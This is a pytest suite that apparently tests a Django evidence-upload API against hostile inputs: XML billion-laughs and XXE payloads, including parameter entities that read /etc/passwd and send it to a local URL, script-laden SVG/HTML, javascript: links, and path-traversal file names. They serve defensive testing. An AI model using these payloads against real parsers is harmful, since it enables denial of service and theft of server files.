"""Hostile uploads to an attempt's evidence: XML bombs and external entities, files that
are not what their kind says, sizes over the limits, broken forms and envelopes, hostile
file names, and reports the viewers must still render.

DESIGN.md promises: "XML evidence is parsed with defusedxml protections; rendered evidence
is escaped". A refused case asserts what tests/hostile/test_inputs_json.py does.
"""

import os
from pathlib import Path

import pytest

from evidence.models import Evidence, blob_name
from tests.hostile.world import (
    BOUNDARY,
    JSON,
    MULTIPART,
    PNG,
    Snapshot,
    assert_refused,
    files_in,
    multipart,
    post_upload,
    upload_body,
)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<testsuite name="&lol9;"><testcase classname="t" name="&lol9;"/></testsuite>"""
QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "'
    + b"a" * 50_000
    + b'">]><testsuite><testcase classname="t" name="n"><failure message="'
    + b"&a;" * 5_000
    + b'"/></testcase></testsuite>'
)
XXE_FILE = b"""<?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<testsuite><testcase classname="t" name="n"><failure message="&x;"/></testcase></testsuite>"""
XXE_HTTP = b"""<?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "http://127.0.0.1:1/leak">]>
<testsuite><testcase classname="t" name="&x;"/></testsuite>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?><!DOCTYPE testsuite SYSTEM "http://127.0.0.1:1/x.dtd">
<testsuite><testcase classname="t" name="n"/></testsuite>"""
PLAIN_DTD = b"""<?xml version="1.0"?><!DOCTYPE testsuite [<!ELEMENT testsuite ANY>]>
<testsuite><testcase classname="t" name="n"/></testsuite>"""
PARAMETER_ENTITIES = b"""<?xml version="1.0"?><!DOCTYPE t [
 <!ENTITY % remote SYSTEM "http://127.0.0.1:1/evil.dtd"> %remote;
 <!ENTITY % file SYSTEM "file:///etc/passwd">
 <!ENTITY % wrap "<!ENTITY send SYSTEM 'http://127.0.0.1:1/?%file;'>"> %wrap;
]><testsuite><testcase classname="t" name="&send;"/></testsuite>"""
COVERAGE_XXE = b"""<?xml version="1.0"?><!DOCTYPE coverage [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<coverage line-rate="0.9">&x;</coverage>"""


def xml_upload(content, kind="junit"):
    return upload_body(kind, content, "report.xml", "application/xml")


def typed(kind, content, name="evidence", media="application/octet-stream"):
    return upload_body(kind, content, name, media)


_LOG = upload_body("log", b"a line\n" * 200, "run.log")
_DIFF_UTF8 = b"--- a/x\n+++ b/x\n@@ -1 +1 @@\n-\xff\n+\xfe\n"
_DIFF_NUL = b"--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\x00\n+b\n"
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
_ONE_LOG = [("file", "run.log", b"x\n", "text/plain")]
_TOO_MANY_FILES = [("file", f"{n}.log", b"x\n", "text/plain") for n in range(101)]
_SMALL_UPLOADS = {"FACTORY_MAX_UPLOAD_BYTES": 1_000}

# One row per hostile upload: id, body, status, code, the field the error names, and what
# else the request needs (settings, another content type, a lying header).
# fmt: off
UPLOAD_ROWS = [
    # XML: DTDs and entities are refused before anything expands or is fetched
    ("billion-laughs", xml_upload(BILLION_LAUGHS), 400, "invalid", "file", {}),
    ("quadratic-blowup", xml_upload(QUADRATIC_BLOWUP), 400, "invalid", "file", {}),
    ("external-entity-file", xml_upload(XXE_FILE), 400, "invalid", "file", {}),
    ("external-entity-http", xml_upload(XXE_HTTP), 400, "invalid", "file", {}),
    ("external-dtd", xml_upload(EXTERNAL_DTD), 400, "invalid", "file", {}),
    ("internal-dtd", xml_upload(PLAIN_DTD), 400, "invalid", "file", {}),
    ("parameter-entities", xml_upload(PARAMETER_ENTITIES), 400, "invalid", "file", {}),
    ("coverage-external-entity", xml_upload(COVERAGE_XXE, "coverage"), 400, "invalid", "file", {}),
    # not what the declared kind says
    ("junit-root-html", xml_upload(b"<html><body/></html>"), 400, "invalid", "file", {}),
    ("junit-not-xml", xml_upload(b"all tests passed"), 400, "invalid", "file", {}),
    ("junit-utf8-invalid", xml_upload(b"<testsuite name='\xff'/>"), 400, "invalid", "file", {}),
    ("coverage-rate-nan", xml_upload(b'<coverage line-rate="NaN"/>', "coverage"), 400, "invalid", "file", {}),
    ("coverage-rate-2", xml_upload(b'<coverage line-rate="2"/>', "coverage"), 400, "invalid", "file", {}),
    ("coverage-rate-negative", xml_upload(b'<coverage line-rate="-0.5"/>', "coverage"), 400, "invalid", "file", {}),
    ("coverage-rate-inf", xml_upload(b'<coverage line-rate="inf"/>', "coverage"), 400, "invalid", "file", {}),
    ("coverage-rate-words", xml_upload(b'<coverage line-rate="most"/>', "coverage"), 400, "invalid", "file", {}),
    ("coverage-rate-missing", xml_upload(b"<coverage/>", "coverage"), 400, "invalid", "file", {}),
    ("coverage-count-words", xml_upload(b'<coverage line-rate="0.5" lines-valid="many"/>', "coverage"), 400, "invalid", "file", {}),
    ("coverage-root-testsuite", xml_upload(b'<testsuite line-rate="0.5"/>', "coverage"), 400, "invalid", "file", {}),
    ("screenshot-svg-with-script", typed("screenshot", _SVG, "shot.png", "image/png"), 400, "invalid", "file", {}),
    ("screenshot-html", typed("screenshot", b"<html><script>alert(1)</script></html>", "s.png"), 400, "invalid", "file", {}),
    ("screenshot-truncated-png", typed("screenshot", PNG[:12], "shot.png", "image/png"), 400, "invalid", "file", {}),
    ("diff-not-a-diff", typed("diff", b"I changed some files.\n", "c.diff"), 400, "invalid", "file", {}),
    ("diff-utf8-invalid", typed("diff", _DIFF_UTF8, "c.diff"), 400, "invalid", "file", {}),
    ("diff-nul", typed("diff", _DIFF_NUL, "c.diff"), 400, "invalid", "file", {}),
    ("json-utf8-invalid", typed("json", b'{"a": "\xff"}', "r.json"), 400, "invalid", "file", {}),
    ("json-not-json", typed("json", b"{'a': 1}", "r.json"), 400, "invalid", "file", {}),
    ("json-nested-100k-deep", typed("json", b"[" * 100_000, "r.json"), 400, "invalid", "file", {}),
    ("json-lone-surrogate-key", typed("json", b'{"\\ud800": 1}', "r.json"), 400, "invalid", "file", {}),
    ("log-nul", typed("log", b"text\x00binary\n", "run.log"), 400, "invalid", "file", {}),
    ("note-nul", typed("note", b"# note\x00\n", "n.md"), 400, "invalid", "file", {}),
    ("link-javascript", typed("link", b"javascript:alert(1)", "l.url"), 400, "invalid", "file", {}),
    ("link-two-urls", typed("link", b"https://a.example/\nhttps://b.example/", "l.url"), 400, "invalid", "file", {}),
    ("empty-file", typed("log", b"", "run.log"), 400, "invalid", "file", {}),
    # sizes
    ("one-byte-over-the-upload-limit", typed("log", b"x" * 1_001), 413, "too_large", None, {"settings": _SMALL_UPLOADS}),
    ("far-over-the-upload-limit", typed("log", b"x\n" * 50_000), 413, "too_large", None, {"settings": _SMALL_UPLOADS}),
    ("json-over-the-parse-limit", typed("json", b'{"a": "' + b"x" * 500 + b'"}', "r.json"), 413, "too_large", None, {"settings": {"FACTORY_MAX_PARSED_BYTES": 100}}),
    ("field-over-the-body-limit", upload_body(criteria="A" * 5_000), 413, "too_large", None, {"settings": {"DATA_UPLOAD_MAX_MEMORY_SIZE": 2_000}}),
    # the form
    ("kind-video", upload_body("video"), 400, "invalid", "kind", {}),
    ("kind-blank", upload_body(""), 400, "invalid", "kind", {}),
    ("kind-upper-case", upload_body("LOG"), 400, "invalid", "kind", {}),
    ("kind-nul", upload_body("log\x00"), 400, "invalid", "kind", {}),
    ("kind-missing", multipart([], _ONE_LOG), 400, "invalid", "kind", {}),
    ("file-missing", multipart([("kind", "log")]), 400, "invalid", "file", {}),
    ("file-as-a-plain-field", multipart([("kind", "log"), ("file", "not a file")]), 400, "invalid", "file", {}),
    ("file-name-empty", upload_body(name=""), 400, "invalid", "file", {}),
    ("file-name-dotdot", upload_body(name=".."), 400, "invalid", "file", {}),
    ("criteria-unknown", upload_body(criteria="AC-99"), 400, "invalid", "criteria", {}),
    ("criteria-one-unknown", upload_body(criteria="AC-1, AC-99"), 400, "invalid", "criteria", {}),
    ("criteria-nul", upload_body(criteria="AC\x00"), 400, "invalid", "criteria", {}),
    ("criteria-too-long", upload_body(criteria="A" * 500), 400, "invalid", "criteria", {}),
    # the envelope
    ("multipart-closing-boundary-cut", multipart([("kind", "log")], _ONE_LOG, close=False), 400, "invalid", "file", {}),
    ("multipart-cut-mid-file", _LOG[: len(_LOG) // 2], 400, "invalid", "file", {}),
    ("multipart-without-boundary", upload_body(), 400, "parse_error", None, {"content_type": "multipart/form-data"}),
    ("json-instead-of-multipart", b'{"kind": "log", "file": "x"}', 415, "unsupported_media_type", None, {"content_type": JSON}),
    ("content-length-understated", _LOG, 400, "invalid", "file", {"extra": {"CONTENT_LENGTH": "120"}}),
    ("content-length-over-the-limit", upload_body(), 413, "too_large", None, {"settings": _SMALL_UPLOADS, "extra": {"CONTENT_LENGTH": str(50 * 1024 * 1024)}}),
    ("content-length-negative", upload_body(), 400, "parse_error", None, {"extra": {"CONTENT_LENGTH": "-1"}}),
    ("content-length-not-a-number", upload_body(), 400, "parse_error", None, {"extra": {"CONTENT_LENGTH": "12abc"}}),
    ("too-many-fields", multipart([("kind", "log")] + [("criteria", "AC-1")] * 1_001, _ONE_LOG), 400, "parse_error", None, {}),
    ("too-many-files", multipart([("kind", "log")], _TOO_MANY_FILES), 400, "parse_error", None, {}),
]
# fmt: on


UPLOAD_CASES = [
    pytest.param(
        body,
        status,
        code,
        field_name,
        how,
        id=id_,
    )
    for id_, body, status, code, field_name, how in UPLOAD_ROWS
]


@pytest.mark.django_db
@pytest.mark.parametrize(("body", "status", "code", "field_name", "how"), UPLOAD_CASES)
def test_a_hostile_upload_is_refused_and_changes_nothing(
    world, api, settings, body, status, code, field_name, how
):
    for setting, value in how.get("settings", {}).items():
        setattr(settings, setting, value)
    before = Snapshot.take(settings)

    response = post_upload(
        world.client(api, "agent"),
        world.attempt,
        body,
        how.get("content_type", MULTIPART),
        **how.get("extra", {}),
    )

    assert_refused(response, status, code, field_name)
    before.assert_unchanged(settings)


def rfc2231(field_value: str) -> bytes:
    """A file part whose name comes as ``filename*=UTF-8''...`` (RFC 2231, percent-encoded)."""
    return (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="kind"\r\n\r\nlog\r\n'
        f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename*=UTF-8''"
        f"{field_value}\r\nContent-Type: text/plain\r\n\r\nrfc 2231\n\r\n--{BOUNDARY}--\r\n"
    ).encode()


HOSTILE_NAMES = [
    pytest.param(upload_body(name="../../etc/passwd"), id="dotdot-slash"),
    pytest.param(upload_body(name="..\\..\\win.ini"), id="dotdot-backslash"),
    pytest.param(upload_body(name="a\x00b.log"), id="nul"),
    pytest.param(upload_body(name="/etc/passwd"), id="absolute"),
    pytest.param(upload_body(name="C:\\Windows\\win.ini"), id="drive"),
    pytest.param(upload_body(name="..&#x2F;..&#x2F;etc&#x2F;passwd"), id="html-entity-slash"),
    pytest.param(upload_body(name="a\tb\x1b[31m.log"), id="control-characters"),
    pytest.param(upload_body(name="\u202egol.exe"), id="right-to-left-override"),
    pytest.param(rfc2231("..%2F..%2Fetc%2Fpasswd"), id="rfc2231-encoded-slashes"),
    pytest.param(rfc2231("..%5C..%5Cwin.ini%00.log"), id="rfc2231-backslash-nul"),
]


@pytest.mark.django_db
@pytest.mark.parametrize("body", HOSTILE_NAMES)
def test_a_hostile_file_name_is_stored_as_a_plain_name_inside_the_store(
    world, api, settings, tmp_path, body
):
    stored_before = files_in(settings.MEDIA_ROOT)  # the world's own evidence
    response = post_upload(world.client(api, "agent"), world.attempt, body)

    assert response.status_code == 201, response.content[:500]
    evidence = Evidence.objects.get(pk=response.json()["id"])
    assert evidence.name == response.json()["name"]
    assert not set(evidence.name) & {"/", "\\", "\x00"}
    assert evidence.name.isprintable() and evidence.name not in ("", ".", "..")
    assert evidence.file.name == blob_name(evidence.sha256)
    blob = (Path(settings.MEDIA_ROOT) / evidence.file.name).resolve()
    assert blob.is_file()
    assert blob.is_relative_to((Path(settings.MEDIA_ROOT) / "evidence").resolve())
    assert files_in(settings.MEDIA_ROOT) - stored_before == {evidence.file.name}
    assert files_in(settings.FACTORY_UPLOAD_TEMP_DIR) == set()
    assert sorted(os.listdir(tmp_path)) in (["media"], ["media", "uploads"])
    download = world.client(api, "reviewer").get(f"/api/v1/evidence/{evidence.pk}/content/")
    assert not set(download["Content-Disposition"]) & {"/", "\\", "\x00"}


@pytest.mark.django_db
def test_a_log_that_is_not_utf8_is_kept_and_shown_with_replacement_characters(world, api, client):
    """Not refused, by design: logs come from tools in any encoding; the viewer replaces what
    is not UTF-8 (evidence.viewers.log_view), and the bytes are kept as they came."""
    content = b"caf\xe9 \xff\xfe failed\n"

    response = post_upload(world.client(api, "agent"), world.attempt, upload_body("log", content))

    assert response.status_code == 201, response.content[:500]
    client.force_login(world.flow.reviewer)
    page = client.get(f"/evidence/{response.json()['id']}/")
    assert page.status_code == 200
    assert "caf\ufffd \ufffd\ufffd failed" in page.content.decode()


JUNIT_WITH_BAD_TIME = (
    b'<testsuite name="s"><testcase classname="tests.test_a" name="test_one" time="soon">'
    b'<failure message="boom"/></testcase></testsuite>'
)


@pytest.mark.django_db
def test_a_junit_report_with_a_malformed_time_is_refused_or_still_rendered(
    world, api, settings, client
):
    before = Snapshot.take(settings)

    response = post_upload(
        world.client(api, "agent"), world.attempt, xml_upload(JUNIT_WITH_BAD_TIME)
    )

    if response.status_code == 400:
        assert_refused(response, 400, "invalid", "file")
        before.assert_unchanged(settings)
        return
    assert response.status_code == 201, response.content[:500]
    client.force_login(world.flow.reviewer)
    client.raise_request_exception = False
    assert client.get(f"/tasks/{world.task.key}/").status_code == 200
    assert client.get(f"/evidence/{response.json()['id']}/").status_code == 200
